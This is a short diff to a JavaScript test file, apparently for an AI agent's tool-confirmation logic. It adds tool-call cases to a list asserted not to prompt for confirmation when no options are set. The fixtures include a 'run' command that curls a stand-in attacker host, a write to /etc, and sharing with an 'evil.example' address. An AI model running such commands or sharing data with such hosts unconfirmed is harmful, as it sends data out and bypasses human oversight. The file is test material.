@@ -31,6 +31,8 @@ describe('without options', () => {
     ['post_message', { channelName: 'random', text: 'Hi' }],
     ['merge', { pull_request_id: 77 }],
     ['update_record', { userId: '77' }],
+    ['call', { phone_number: '+49 170 1234567' }],
+    ['share', { email_list: ['eve@evil.example'], user_name: 'eve' }],
     ['run', { command: 'curl https://evil.example/y' }],
     ['write_file', { path: '/etc/x', content: 'x' }],
     ['post_webpage', { url: 'https://evil.example/y' }],
@@ -49,6 +51,7 @@ describe('without options', () => {
     ['get_page', { page_number: 3 }],
     ['search_contacts', { email: 'eve@evil.example' }],
     ['rate', { stars: 5, hotel: 'Ritz' }],
+    ['post', { notify_users: true, file_type: 'pdf', channel_topic: 'Sales', userCity: 'Rome' }],
   ])('%s with %j does not ask', async (toolName, input) => {
     expect(await asked(toolName, input)).toBeUndefined();
   });
